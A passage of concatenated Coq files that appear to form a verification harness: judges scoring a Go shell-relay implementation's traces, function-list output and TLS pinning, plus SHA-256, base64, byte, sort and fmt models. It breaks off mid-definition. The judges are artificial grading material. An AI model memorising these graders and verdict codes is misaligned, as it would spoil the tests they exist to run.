Definition count_note (c : ncls) (i : sobs) : nat :=
  length (filter (fun x => match x with ONote c' _ => ncls_eqb c c' | _ => false end) (o_och i)).
Definition count_ev (e : ev) (i : sobs) : nat := length (filter (ev_eqb e) (o_ev i)).

Definition c04_step (ds : list (N * sdesc)) (m : mon) (o : op) (i : sobs) : bool :=
  let m' := mon_next m o i in
  let n0 := length (m_live m) in
  let n1 := length (m_live m ++ o_att i) in
  let n2 := length (m_live m') in
  (* ready notice and connected event exactly when the second stream attaches *)
  let want_ready := ((n0 <? 2)%nat && (2 <=? n1)%nat && negb (m_teardown m)) in
  (count_note NReady i =? (if want_ready then 1 else 0))%nat &&
  (count_ev EConn i =? (if want_ready && negb (m_shut m) then 1 else 0))%nat &&
  (* exactly one 'gone' notice and disconnected event when the last stream of a shell returns *)
  let want_gone := ((0 <? n1)%nat && (n2 =? 0)%nat && negb (length (o_ret i) =? 0)%nat &&
                    existsb (fun r => memb r (m_live m ++ o_att i)) (o_ret i)) in
  (count_note NGone i =? (if want_gone then 1 else 0))%nat &&
  (count_ev EDisc i =? (if want_gone && negb (m_shut m') then 1 else 0))%nat &&
  (* releasing one direction ends the other without further traffic: its closure is logged in the same step *)
  match o with
  | ORelease id =>
      if memb id (m_live m) && memb id (o_ret i) then
        forallb (fun p => memb p (m_ended m') || negb (memb p (m_live m'))) (m_live m')
      else true
  | _ => true
  end &&
  (* once idle and not shutting down, the next attempt with a key is accepted *)
  match o with
  | OAdmit id d => if (n0 =? 0)%nat && negb (m_shut m) && negb (key_missing (sd_key d)) then memb id (o_att i) else true
  | OGo id => match desc_of ds id with
              | Some d => if (n0 =? 0)%nat && negb (m_shut m) then memb id (o_att i) else true
              | None => true end
  | _ => true
  end &&
  (* Do returns only after shutdown and after every attached stream has ended *)
  (negb (o_do i) || (m_shut m' && (n2 =? 0)%nat)).

(** ** C11: the log is a complete ordered transcript *)
Definition io_recs (ds : list (N * sdesc)) (d : dir) (i : sobs) : list bytes :=
  flat_map (fun r => match r with
                     | Log (LIO x) s => match desc_of ds s with
                                        | Some sd => if dir_eqb (sd_dir sd) d then [x] else []
                                        | None => [] end
                     | _ => [] end) (o_log i).
Definition plain_pieces (i : sobs) : list bytes :=
  flat_map (fun x => match x with OPlain d => [d] | _ => [] end) (o_och i).
(** Lines whose write and flush succeeded, in order. *)
Fixpoint delivered (ds : list (N * sdesc)) (w : list wev) : list bytes :=
  match w with
  | WWrite s d :: r =>
      match desc_of ds s with
      | Some sd =>
          match sd_wk sd, r with
          | WPlain, _ => d :: delivered ds r
          | WFlusher, (WFlush _ _ | WFlushFail _ _) :: r' => d :: delivered ds r'
          | _, WFlush _ _ :: r' => d :: delivered ds r'
          | _, _ => delivered ds r
          end
      | None => delivered ds r
      end
  | _ :: r => delivered ds r
  | [] => []
  end.
Definition refusal_logs (id : N) (i : sobs) : nat :=
  length (filter (fun r => match r with
                           | Log (LKeyMissing | LTeardown | LDup | LBadKey) s => s =? id
                           | _ => false end) (o_log i)).
Fixpoint pop_pieces (shown q : list bytes) : option (list bytes) :=
  match shown, q with
  | [], _ => Some q
  | x :: r, y :: q' => if beq x y then pop_pieces r q' else None
  | _ :: _, [] => None
  end.
Definition c11_step (ds : list (N * sdesc)) (m : mon) (o : op) (i : sobs) : bool * mon :=
  let m' := mon_next m o i in
  (* every displayed chunk is the oldest logged-and-not-yet-displayed one, piece by piece *)
  match pop_pieces (plain_pieces i) (m_outq m ++ io_recs ds DOut i) with
  | None => (false, m')
  | Some q =>
  (list_eqb beq (io_recs ds DIn i) (delivered ds (o_w i)) &&
  (* every accepted stream has a connect record, every refused one (outside shutdown) one error record *)
  forallb (fun a => existsb (fun r => match r with Log LNew s => s =? a | _ => false end) (o_log i)) (o_att i) &&
  match admitted_id o with
  | Some id => if memb id (o_att i) then (refusal_logs id i =? 0)%nat
               else if m_shut m then true else (refusal_logs id i =? 1)%nat
  | None => true
  end &&
  (* a stream that returns after having been attached has had its disconnect record *)
  forallb (fun r => negb (memb r (m_live m ++ o_att i)) || memb r (m_ended m ++ disc_ids i)) (o_ret i) &&
  (* and never two *)
  forallb (fun s => negb (memb s (m_ended m))) (disc_ids i),
   {| m_live := m_live m'; m_ended := m_ended m'; m_shut := m_shut m'; m_entered := m_entered m'; m_sent := m_sent m';
      m_dead_w := m_dead_w m'; m_teardown := m_teardown m'; m_outq := q |})
  end.

(** ** C02: input lines *)
Fixpoint strip_nl (d : bytes) : option bytes :=
  match d with
  | [] => None
  | [10] => Some []
  | x :: r => option_map (cons x) (strip_nl r)
  end.
(** Lines taken from the operator in this step (written, successfully or not), in order. *)
Definition taken (w : list wev) : list (option bytes) :=
  flat_map (fun e => match e with WWrite _ d | WWriteFail _ d => [strip_nl d] | _ => [] end) w.
Fixpoint is_prefix_opt (t : list (option bytes)) (e : list bytes) : option (list bytes) :=
  match t, e with
  | [], _ => Some e
  | Some x :: t', y :: e' => if beq x y then is_prefix_opt t' e' else None
  | _, _ => None
  end.
(** After each successful write comes the flush its writer kind dictates, before the next write. *)
Fixpoint flush_discipline (ds : list (N * sdesc)) (w : list wev) : bool :=
  match w with
  | WWrite s _ :: r =>
      match desc_of ds s with
      | Some sd =>
          match sd_wk sd, r with
          | WPlain, (WFlush _ _ | WFlushFail _ _) :: _ => false
          | WPlain, _ => flush_discipline ds r
          | WFlusher, (WFlush s' false | WFlushFail s' false) :: r' => (s =? s') && flush_discipline ds r'
          | (WFlushErr | WBoth), (WFlush s' true | WFlushFail s' true) :: r' => (s =? s') && flush_discipline ds r'
          | _, _ => false
          end
      | None => false
      end
  | WWriteFail _ _ :: r => flush_discipline ds r
  | (WFlush _ _ | WFlushFail _ _) :: _ => false     (* a flush without a write *)
  | [] => true
  end.
Definition newly_dead (w : list wev) : list N :=
  flat_map (fun e => match e with WWriteFail s _ | WFlushFail s true => [s] | _ => [] end) w.
Definition c02_step (ds : list (N * sdesc)) (strict : bool) (m : mon) (o : op) (i : sobs) : bool * mon :=
  let ent := match o with OLine l | ORace _ l => m_entered m ++ [l] | _ => m_entered m end in
  let m1 := mon_next m o i in
  match is_prefix_opt (taken (o_w i)) ent with
  | Some rest =>
      (flush_discipline ds (o_w i) &&
       (* no write to a stream after its own failure *)
       forallb (fun e => match e with WWrite s _ | WWriteFail s _ => negb (memb s (m_dead_w m)) | _ => true end) (o_w i) &&
       (* a line entered while an input stream is attached and healthy is taken in the same step *)
       match o with
       | OLine _ =>
           if negb strict then true else     (* set-ups that block the writer on purpose are exempt *)
           match live_dirs ds (remove_all (m_ended m) (m_live m)) DIn with
           | [_] => match rest with [] => true | _ => false end
           | _ => true
           end
       | _ => true
       end,
       {| m_live := m_live m1; m_ended := m_ended m1; m_shut := m_shut m1; m_entered := rest;
          m_sent := m_sent m1; m_dead_w := m_dead_w m ++ newly_dead (o_w i); m_teardown := m_teardown m1; m_outq := m_outq m1 |})
  | None => (false, m1)
  end.

(** ** C03: output bytes *)
(** Walk the operator channel in order: every shown chunk must be the next
    bytes owed; the close notice of a stream that ended by itself must come
    after everything it sent.  [m_dead_w] doubles as the set of self-ended
    output streams here. *)
Fixpoint c03_walk (selfended : list N) (l : list ochobs) (pending : bytes) : option bytes :=
  match l with
  | [] => Some pending
  | OPlain d :: r => if bprefix d pending then c03_walk selfended r (skipn (length d) pending) else None
  | ONote NClosed s :: r =>
      if memb s selfended then match pending with [] => c03_walk selfended r pending | _ => None end
      else c03_walk selfended r pending
  | _ :: r => c03_walk selfended r pending
  end.
Definition c03_step (ds : list (N * sdesc)) (m : mon) (o : op) (i : sobs) : bool * mon :=
  let m1 := mon_next m o i in
  let is_live id := memb id (remove_all (m_ended m) (m_live m)) in
  let offered := match o with OData id d _ => if is_live id then d else [] | _ => [] end in
  let selfended := match o with
                   | OData id _ (Some _) => if is_live id then id :: m_dead_w m else m_dead_w m
                   | _ => m_dead_w m end in
  (* a stream whose transport reported no error (and which nobody cancelled in this step) does not end in this step *)
  let spurious_end := match o with
                      | OData id _ None => is_live id && existsb (fun x => match x with ONote NClosed s => s =? id | _ => false end) (o_och i)
                      | _ => false end in
  match c03_walk selfended (o_och i) (m_sent m ++ offered) with
  | Some rest =>
      (negb spurious_end, {| m_live := m_live m1; m_ended := m_ended m1; m_shut := m_shut m1; m_entered := m_entered m1;
                m_sent := rest; m_dead_w := selfended; m_teardown := m_teardown m1; m_outq := m_outq m1 |})
  | None => (false, m1)
  end.

(** ** Driving a monitor over the trace; result = index+1 of the first failing step, 0 if none *)
Fixpoint drive (f : mon -> op -> sobs -> bool * mon) (m : mon) (os : list op) (is_ : list sobs) (k : N) : N :=
  match os, is_ with
  | o :: os', i :: is' =>
      let '(ok, m') := f m o i in
      if ok then drive f m' os' is' (k + 1) else k + 1
  | _, _ => match m_outq m with [] => 0 | _ => 97 end     (* something was logged as shell output and never displayed *)
  end.
Definition simple (g : mon -> op -> sobs -> bool) : mon -> op -> sobs -> bool * mon :=
  fun m o i => (g m o i, mon_next m o i).

(** Stalled-terminal cases: the step in which a notice is observed is skewed, but once the terminal has
    been drained and every attached stream has returned, the operator must have been told, in total:
    one 'connected' and one 'closed' notice per attached stream, and one 'gone' notice per shell (maximal
    period with something attached) - none may be dropped because the terminal was slow. *)
Definition total_notes (cl : ncls) (obs : list sobs) : nat := list_sum (map (count_note cl) obs).
Definition shells_gone (obs : list sobs) : nat :=
  snd (fold_left (fun (st : list N * nat) o =>
                    let l1 := fst st ++ o_att o in
                    let l2 := remove_all (o_ret o) l1 in
                    (l2, match l1, l2 with _ :: _, [] => S (snd st) | _, _ => snd st end)) obs ([], 0%nat)).
Definition notes_complete (obs : list sobs) : bool :=
  let atts := flat_map o_att obs in
  let rets := flat_map o_ret obs in
  if forallb (fun a => memb a rets) atts then
    (total_notes NConnected obs =? length atts)%nat && (total_notes NClosed obs =? length atts)%nat &&
    (total_notes NGone obs =? shells_gone obs)%nat
  else true.

Definition monitor_at (which : N) (c : case) : N :=
  let ds := descs (ops c) in
  let f := match which with
           | 1 | 6 => simple (c01_step ds)
           | 4 => simple (c04_step ds)
           | 11 => c11_step ds
           | 2 => c02_step ds (corr_on c)
           | 3 => c03_step ds
           | _ => simple (fun _ _ _ => true)
           end in
  (* stalled-terminal cases skew which step a notice is observed in: for C04 only the end state is judged there *)
  let k := if (which =? 4) && negb (corr_on c) then 0 else drive f mon0 (ops c) (impl c) 0 in
  if negb (k =? 0) then k
  else if (which =? 4) && negb ((leaks c =? 0) && negb (stuck c)) then 99
  else if (which =? 4) && negb (corr_on c) && negb (notes_complete (impl c)) then 96
  else if (which =? 11) && negb (json_ok c && (json_lines c =? N.of_nat (length (flat_map o_log (impl c))))) then 98
  else 0.

Definition judge_for (which : N) (c : case) : verdict :=
  let k := monitor_at which c in
  first_fail [ (k =? 0, v_violation (which + 100 * k)); corr c ].

(** Stalled-terminal cases for C01: once the terminal has been drained, every attempt that was not
    attached has been announced to the operator - a refusal notice waits for room, it is never dropped. *)
Definition attempts (os : list op) : list N :=
  flat_map (fun o => match admitted_id o with Some id => [id] | None => [] end) os.
Definition refusals_told (c : case) : bool :=
  let att := flat_map o_att (impl c) in
  let refused := filter (fun id => negb (memb id att)) (attempts (ops c)) in
  (total_notes NRefused (impl c) =? length refused)%nat.
Definition judge_c01s (cs : list case) := judge_list (fun c => first_fail [ (refusals_told c, v_violation 1) ]) cs.

Definition judge_c01 (cs : list case) := judge_list (judge_for 1) cs.
Definition judge_c02 (cs : list case) := judge_list (judge_for 2) cs.
Definition judge_c03 (cs : list case) := judge_list (judge_for 3) cs.
Definition judge_c04 (cs : list case) := judge_list (judge_for 4) cs.
Definition judge_c06 (cs : list case) := judge_list (judge_for 6) cs.
Definition judge_c11 (cs : list case) := judge_list (judge_for 11) cs.

(** Coverage tag: bit 0 a shell became fully attached, bit 1 some refusal, bit 2 a tear-down window refusal,
    bit 3 a write/flush failure, bit 4 a /io request. *)
Definition tag (c : case) : N :=
  let obs := snd (run (ops c)) in
  (if existsb (fun o => existsb (fun x => match x with ONote NReady _ => true | _ => false end) (o_och o)) obs then 1 else 0) +
  (if existsb (fun o => existsb (fun x => match x with ONote NRefused _ => true | _ => false end) (o_och o)) obs then 2 else 0) +
  (if existsb (fun o => existsb (fun r => match r with Log LTeardown _ => true | _ => false end) (o_log o)) obs then 4 else 0) +
  (if existsb (fun o => existsb (fun w => match w with WWriteFail _ _ | WFlushFail _ _ => true | _ => false end) (o_w o)) obs then 8 else 0) +
  (if existsb (fun o => match o with OIoReq _ _ _ _ => true | _ => false end) (ops c) then 16 else 0).
Definition tags (cs : list case) : list N := map tag cs.
Definition judge_c01_tags := tags.  Definition judge_c01s_tags := tags.  Definition judge_c02_tags := tags.  Definition judge_c03_tags := tags.
Definition judge_c04_tags := tags.  Definition judge_c06_tags := tags.  Definition judge_c11_tags := tags.
