(** Judge for C18 (GenFuncList). *)
From CRS Require Import Lib.Bytes Model.FuncList Judge.Common.
Open Scope N_scope.

Record case := mk {
  payload : bytes;
  out : option bytes;      (* None: the implementation returned an error or panicked *)
  fidelity : bool          (* payload free of the tabwriter's control bytes *)
}.

Fixpoint lbeq (a b : list bytes) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => beq x y && lbeq a' b'
  | _, _ => false
  end.

Definition judge (c : case) : verdict :=
  match out c with
  | None => v_violation 3
  | Some o =>
      first_fail [
        (match parse_func o with Some _ => true | None => false end, v_violation 1);
            (* every body line is  echo '<one literal word>'  *)
        (negb (fidelity c) ||
         match parse_func o with Some ws => lbeq ws (rows (payload c)) | None => false end, v_violation 2);
            (* the words are exactly the documented rows, sorted, distinct *)
        (negb (fidelity c) || beq o (gen_func_list (payload c)), v_mismatch 10)
      ]
  end.
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.

Definition tag (c : case) : N :=
  let n := N.of_nat (length (rows (payload c))) in
  if n <=? 1 then 0 else
  if existsb (fun r => existsb (N.eqb 39) r) (rows (payload c)) then 2 else 1.
Definition judge_all_tags (cs : list case) : list N := map tag cs.
