(** Judge for C13 (simpleshell pinning). *)
From CRS Require Import Lib.Bytes Model.Pin Judge.Common.
Open Scope N_scope.

Record case := mk {
  fp : bytes;
  chain : list bytes;
  trusted : bool;
  hit : bool;              (* the server's handler ran: a request was sent *)
  cls : N;                 (* 0 no error, 1 bad fingerprint, 2 no matching certificate, 3 x509, 4 other, 5 panic *)
  global_changed : bool    (* http.DefaultClient / http.DefaultTransport differ from their state at start *)
}.

Definition judge (c : case) : verdict :=
  let want := go_call (fp c) (chain c) (trusted c) in
  first_fail [
    (negb (cls c =? 5), v_violation 3);
    (Bool.eqb (hit c) (match want with Sent => true | _ => false end), v_violation 1);
        (* traffic is exchanged iff a presented certificate's key hashes to the configured pin (or, without a pin, validation succeeds) *)
    (negb (global_changed c), v_violation 2);      (* the process's default HTTP client settings are left untouched *)
    (match want with
     | Sent => cls c =? 0
     | RefusedBadFingerprint => cls c =? 1
     | RefusedNoMatch => cls c =? 2
     | RefusedValidation => cls c =? 3
     end, v_mismatch 10)
  ].
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.
Definition tag (c : case) : N :=
  match go_call (fp c) (chain c) (trusted c) with Sent => 1 | RefusedBadFingerprint => 2 | RefusedNoMatch => 3 | RefusedValidation => 4 end +
  10 * N.of_nat (length (chain c)).
Definition judge_all_tags (cs : list case) : list N := map tag cs.

(** Calls which are led to several servers (redirects): [rhops] = the servers in order (chain, trusted), [rhits] = which of them received a request. *)
Record rcase := mkr { rfp : bytes; rhops : list (list bytes * bool); rhits : list bool; rglobal_changed : bool }.
Fixpoint bools_eqb (a b : list bool) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => Bool.eqb x y && bools_eqb a' b'
  | _, _ => false
  end.
(** no server may receive a request which the model says is not reached; the exact pattern is a correspondence matter *)
Fixpoint no_extra_hit (obs model : list bool) : bool :=
  match obs, model with
  | o :: obs', m :: model' => (negb o || m) && no_extra_hit obs' model'
  | [], _ => true
  | o :: obs', [] => negb o && no_extra_hit obs' []
  end.
Definition judge_r (c : rcase) : verdict :=
  first_fail [ (no_extra_hit (rhits c) (hops_hit (rfp c) (rhops c)), v_violation 1);
               (negb (rglobal_changed c), v_violation 2);
               (bools_eqb (rhits c) (hops_hit (rfp c) (rhops c)), v_mismatch 10) ].
Definition judge_redir (cs : list rcase) : list (N * N * N) := judge_list judge_r cs.
Definition judge_redir_tags (cs : list rcase) : list N := map (fun c => N.of_nat (length (filter (fun b => b) (hops_hit (rfp c) (rhops c))))) cs.
