(** SHA-256 (FIPS 180-4) over [N], as an executable function: used to recompute,
    inside Coq, the pin of the key a TLS client was really shown.  No security
    property of the hash is (or could be) proved; agreement with crypto/sha256
    is checked by the C05/C13 correspondence on every run. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Definition w32 : N := 4294967296.
Definition add32 (a b : N) : N := (a + b) mod w32.
Definition rotr (x n : N) : N := N.lor (N.shiftr x n) ((N.shiftl x (32 - n)) mod w32).
Definition shr (x n : N) : N := N.shiftr x n.
Definition not32 (x : N) : N := w32 - 1 - x.
Definition ch (x y z : N) : N := N.lxor (N.land x y) (N.land (not32 x) z).
Definition maj (x y z : N) : N := N.lxor (N.lxor (N.land x y) (N.land x z)) (N.land y z).
Definition bsig0 (x : N) : N := N.lxor (N.lxor (rotr x 2) (rotr x 13)) (rotr x 22).
Definition bsig1 (x : N) : N := N.lxor (N.lxor (rotr x 6) (rotr x 11)) (rotr x 25).
Definition ssig0 (x : N) : N := N.lxor (N.lxor (rotr x 7) (rotr x 18)) (shr x 3).
Definition ssig1 (x : N) : N := N.lxor (N.lxor (rotr x 17) (rotr x 19)) (shr x 10).

Definition K : list N := [
 1116352408; 1899447441; 3049323471; 3921009573; 961987163; 1508970993; 2453635748; 2870763221;
 3624381080; 310598401; 607225278; 1426881987; 1925078388; 2162078206; 2614888103; 3248222580;
 3835390401; 4022224774; 264347078; 604807628; 770255983; 1249150122; 1555081692; 1996064986;
 2554220882; 2821834349; 2952996808; 3210313671; 3336571891; 3584528711; 113926993; 338241895;
 666307205; 773529912; 1294757372; 1396182291; 1695183700; 1986661051; 2177026350; 2456956037;
 2730485921; 2820302411; 3259730800; 3345764771; 3516065817; 3600352804; 4094571909; 275423344;
 430227734; 506948616; 659060556; 883997877; 958139571; 1322822218; 1537002063; 1747873779;
 1955562222; 2024104815; 2227730452; 2361852424; 2428436474; 2756734187; 3204031479; 3329325298].
Definition H0 : list N :=
 [1779033703; 3144134277; 1013904242; 2773480762; 1359893119; 2600822924; 528734635; 1541459225].

(** padding: 0x80, zeros, 64-bit big-endian bit length *)
Fixpoint be_bytes (n : nat) (x : N) : bytes :=
  match n with O => [] | S k => be_bytes k (x / 256) ++ [x mod 256] end.
Definition pad (m : bytes) : bytes :=
  let l := length m in
  let z := ((119 - l mod 64) mod 64)%nat in
  m ++ [128] ++ repeat 0 z ++ be_bytes 8 (N.of_nat l * 8).

Fixpoint words (n : nat) (l : bytes) : list N :=
  match n, l with
  | S k, a :: b :: c :: d :: r => (((a * 256 + b) * 256 + c) * 256 + d) :: words k r
  | _, _ => []
  end.

(** message schedule: extend 16 words to 64 *)
Fixpoint schedule (n : nat) (w : list N) : list N :=     (* w grows at the end *)
  match n with
  | O => w
  | S k =>
      let t := length w in
      let g i := nth (t - i) w 0 in
      schedule k (w ++ [add32 (add32 (ssig1 (g 2%nat)) (g 7%nat)) (add32 (ssig0 (g 15%nat)) (g 16%nat))])
  end.

Definition round (st : list N) (kw : N * N) : list N :=
  match st with
  | [a; b; c; d; e; f; g; h] =>
      let t1 := add32 (add32 (add32 h (bsig1 e)) (add32 (ch e f g) (fst kw))) (snd kw) in
      let t2 := add32 (bsig0 a) (maj a b c) in
      [add32 t1 t2; a; b; c; add32 d t1; e; f; g]
  | _ => st
  end.

Definition compress (h : list N) (block : bytes) : list N :=
  let w := schedule 48 (words 16 block) in
  let st := fold_left round (combine K w) h in
  map (fun p => add32 (fst p) (snd p)) (combine h st).

Fixpoint blocks (fuel : nat) (l : bytes) : list bytes :=
  match fuel with
  | O => []
  | S f => match l with [] => [] | _ => firstn 64 l :: blocks f (skipn 64 l) end
  end.

Definition sha256 (m : bytes) : bytes :=
  let p := pad m in
  flat_map (be_bytes 4) (fold_left compress (blocks (length p) p) H0).
