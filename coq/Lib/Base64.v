(** base64.StdEncoding: encoder, strict decoder for padded input, round trip. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Definition b64char (v : N) : N :=
  if v <? 26 then 65 + v else if v <? 52 then 97 + (v - 26) else if v <? 62 then 48 + (v - 52)
  else if v =? 62 then 43 else 47.
Definition b64val (c : N) : option N :=
  if (65 <=? c) && (c <=? 90) then Some (c - 65)
  else if (97 <=? c) && (c <=? 122) then Some (c - 97 + 26)
  else if (48 <=? c) && (c <=? 57) then Some (c - 48 + 52)
  else if c =? 43 then Some 62 else if c =? 47 then Some 63 else None.

Fixpoint b64enc (l : bytes) : bytes :=
  match l with
  | a :: b :: c :: r =>
      b64char (a / 4) :: b64char ((a mod 4) * 16 + b / 16) :: b64char ((b mod 16) * 4 + c / 64) :: b64char (c mod 64) :: b64enc r
  | [a; b] => [b64char (a / 4); b64char ((a mod 4) * 16 + b / 16); b64char ((b mod 16) * 4); 61]
  | [a] => [b64char (a / 4); b64char ((a mod 4) * 16); 61; 61]
  | [] => []
  end.

Fixpoint b64dec_fuel (fuel : nat) (l : bytes) : option bytes :=
  match fuel with
  | O => match l with [] => Some [] | _ => None end
  | S f =>
      match l with
      | [] => Some []
      | w :: x :: y :: z :: r =>
          if z =? 61 then
            match r with
            | [] =>
                if y =? 61 then
                  match b64val w, b64val x with
                  | Some p, Some q => Some [p * 4 + q / 16]
                  | _, _ => None end
                else
                  match b64val w, b64val x, b64val y with
                  | Some p, Some q, Some s => Some [p * 4 + q / 16; (q mod 16) * 16 + s / 4]
                  | _, _, _ => None end
            | _ => None                       (* padding only at the very end *)
            end
          else
            match b64val w, b64val x, b64val y, b64val z, b64dec_fuel f r with
            | Some p, Some q, Some s, Some t, Some rest =>
                Some (p * 4 + q / 16 :: (q mod 16) * 16 + s / 4 :: (s mod 4) * 64 + t :: rest)
            | _, _, _, _, _ => None end
      | _ => None
      end
  end.
Definition b64dec (l : bytes) : option bytes := b64dec_fuel (length l) l.
