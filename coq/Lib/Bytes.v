(** Byte strings as lists of [N]; hex transport format used by the case files. *)
From Coq Require Export String Ascii.
From Coq Require Export List NArith ZArith Bool Lia.
Export ListNotations.
Open Scope N_scope.

Notation byte := N (only parsing).
Notation bytes := (list N) (only parsing).

Definition wf_byte (b : N) : Prop := b < 256.
Definition wf_bytes (l : bytes) : Prop := Forall wf_byte l.
Definition wf_byteb (b : N) : bool := b <? 256.
Definition wf_bytesb (l : bytes) : bool := forallb wf_byteb l.

Lemma wf_bytesb_spec l : wf_bytesb l = true <-> wf_bytes l.
Proof.
  unfold wf_bytesb, wf_bytes. rewrite forallb_forall, Forall_forall.
  unfold wf_byteb, wf_byte. split; intros H x Hx; specialize (H x Hx).
  - apply N.ltb_lt; exact H.
  - apply N.ltb_lt; exact H.
Qed.

(** * Hex decoding ([string] of lowercase hex digits -> bytes) *)
Definition hexval (a : ascii) : N :=
  let n := N_of_ascii a in if n <? 58 then n - 48 else n - 87.

Fixpoint unhex (s : string) : bytes :=
  match s with
  | String a (String b r) => (16 * hexval a + hexval b) :: unhex r
  | _ => []
  end.

(** ASCII text literal -> bytes (for readable constants). *)
Fixpoint txt (s : string) : bytes :=
  match s with
  | EmptyString => []
  | String a r => N_of_ascii a :: txt r
  end.

(** * Equality *)
Fixpoint beq (a b : bytes) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => (x =? y) && beq a' b'
  | _, _ => false
  end.

Lemma beq_eq a b : beq a b = true <-> a = b.
Proof.
  revert b; induction a as [|x a IH]; intros [|y b]; simpl; split; intro H;
    try reflexivity; try discriminate.
  - apply andb_true_iff in H as [H1 H2]. apply N.eqb_eq in H1. apply IH in H2. congruence.
  - inversion H; subst. rewrite N.eqb_refl. simpl. apply IH. reflexivity.
Qed.

Lemma beq_refl a : beq a a = true.
Proof. apply beq_eq; reflexivity. Qed.

(** * Generic list helpers *)
Section ListHelpers.
  Context {A : Type}.

  (** [chunks n l]: consecutive chunks of length [n] (last one possibly shorter);
      [fuel] bounds the number of chunks ([length l] always suffices). *)
  Fixpoint chunks_fuel (fuel n : nat) (l : list A) : list (list A) :=
    match fuel with
    | O => []
    | S f => match l with
             | [] => []
             | _ => firstn n l :: chunks_fuel f n (skipn n l)
             end
    end.
  Definition chunks (n : nat) (l : list A) : list (list A) := chunks_fuel (length l) n l.

  Fixpoint prefixb (eqb : A -> A -> bool) (p l : list A) : bool :=
    match p, l with
    | [], _ => true
    | x :: p', y :: l' => eqb x y && prefixb eqb p' l'
    | _, [] => false
    end.
End ListHelpers.

(** Split on a separator byte, like Go's [bytes.Split(s, []byte{sep})]:
    always returns at least one element. *)
Fixpoint split_on (sep : N) (l : bytes) : list bytes :=
  match l with
  | [] => [[]]
  | x :: r =>
      if x =? sep then [] :: split_on sep r
      else match split_on sep r with
           | [] => [[x]]           (* unreachable *)
           | h :: t => (x :: h) :: t
           end
  end.

Fixpoint join_with (sep : N) (ls : list bytes) : bytes :=
  match ls with
  | [] => []
  | [l] => l
  | l :: r => l ++ sep :: join_with sep r
  end.

Definition bprefix (p l : bytes) : bool := prefixb N.eqb p l.

Lemma bprefix_spec p l : bprefix p l = true <-> exists r, l = p ++ r.
Proof.
  unfold bprefix. revert l; induction p as [|x p IH]; intros l; simpl.
  - split; [intros _; exists l; reflexivity | reflexivity].
  - destruct l as [|y l]; simpl.
    + split; [discriminate | intros [r Hr]; discriminate].
    + rewrite andb_true_iff, N.eqb_eq, IH. split.
      * intros [-> [r ->]]. exists r. reflexivity.
      * intros [r Hr]. inversion Hr; subst. split; [reflexivity | exists r; reflexivity].
Qed.

(** Bounded universal quantification over [N], by computation. *)
Fixpoint all_below (n : nat) (f : N -> bool) : bool :=
  match n with
  | O => true
  | S k => f (N.of_nat k) && all_below k f
  end.

Lemma all_below_spec n f :
  all_below n f = true -> forall x, x < N.of_nat n -> f x = true.
Proof.
  induction n as [|k IH]; simpl; intros H x Hx.
  - lia.
  - apply andb_true_iff in H as [H1 H2].
    destruct (N.eq_dec x (N.of_nat k)) as [->|Hne]; [exact H1|].
    apply IH; [exact H2 | lia].
Qed.
