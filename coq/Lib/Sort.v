(** Bytewise lexicographic order, insertion sort and [slices.Compact]. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

(** [ble a b]: a <= b in Go's string order (bytewise, shorter prefix first). *)
Fixpoint ble (a b : bytes) : bool :=
  match a, b with
  | [], _ => true
  | _ :: _, [] => false
  | x :: a', y :: b' => if x <? y then true else if y <? x then false else ble a' b'
  end.

Fixpoint insert_sorted (x : bytes) (l : list bytes) : list bytes :=
  match l with
  | [] => [x]
  | y :: r => if ble x y then x :: l else y :: insert_sorted x r
  end.

Definition sort_bytes (l : list bytes) : list bytes := fold_right insert_sorted [] l.

(** [slices.Compact]: drop adjacent duplicates. *)
Fixpoint compact (l : list bytes) : list bytes :=
  match l with
  | [] => []
  | x :: r =>
      match r with
      | [] => [x]
      | y :: _ => if beq x y then compact r else x :: compact r
      end
  end.

(** Replace every occurrence of one byte by a byte string ([strings.ReplaceAll]
    with a one-byte pattern). *)
Fixpoint replace_byte (c : N) (by_ : bytes) (l : bytes) : bytes :=
  match l with
  | [] => []
  | x :: r => if x =? c then by_ ++ replace_byte c by_ r else x :: replace_byte c by_ r
  end.
