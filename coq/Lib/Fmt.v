(** The part of Go's fmt the repository relies on, and the C10 call-site
    discipline.  A format string is parsed into literal pieces and verbs; the
    repository only ever needs plain verbs (optional flags/width, no
    precision, no argument indexes, no '*'), so anything else makes the parse
    fail and the site ill-formed. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Inductive piece := PLit (b : N) | PVerb (v : N).

Definition is_flag (c : N) : bool := (c =? 43) || (c =? 45) || (c =? 35) || (c =? 32) || (c =? 48).   (* + - # space 0 *)
Definition is_digit (c : N) : bool := (48 <=? c) && (c <=? 57).
(** verbs whose operand is rendered whole: s v q d x X c w T t p *)
Definition verb_ok (c : N) : bool :=
  existsb (N.eqb c) [115; 118; 113; 100; 120; 88; 99; 119; 84; 116; 112].

(** After a '%': skip flags, then width digits, then expect the verb. *)
Fixpoint after_percent (fuel : nat) (l : bytes) : option (N * bytes) :=
  match fuel with
  | O => None
  | S f =>
      match l with
      | [] => None                                   (* trailing % : %!(NOVERB) *)
      | c :: r => if is_flag c || is_digit c then after_percent f r
                  else Some (c, r)
      end
  end.

Fixpoint parse_fuel (fuel : nat) (l : bytes) : option (list piece) :=
  match fuel with
  | O => match l with [] => Some [] | _ => None end
  | S f =>
      match l with
      | [] => Some []
      | 37 :: r =>
          match after_percent (S (length r)) r with
          | Some (37, r') => option_map (cons (PLit 37)) (parse_fuel f r')          (* %% *)
          | Some (v, r') => if verb_ok v then option_map (cons (PVerb v)) (parse_fuel f r') else None
          | None => None
          end
      | c :: r => option_map (cons (PLit c)) (parse_fuel f r)
      end
  end.
Definition parse_fmt (l : bytes) : option (list piece) := parse_fuel (S (length l)) l.

Definition nverbs (ps : list piece) : nat :=
  length (filter (fun p => match p with PVerb _ => true | _ => false end) ps).

(** Rendering with operands given as already-rendered text (a string operand
    under %s / %v is itself; under %q it is its quoted form, produced by the
    caller of this model): each operand is inserted WHOLE at its verb. *)
Fixpoint render (ps : list piece) (args : list bytes) : bytes :=
  match ps with
  | [] => []
  | PLit c :: r => c :: render r args
  | PVerb _ :: r => match args with
                    | a :: args' => a ++ render r args'
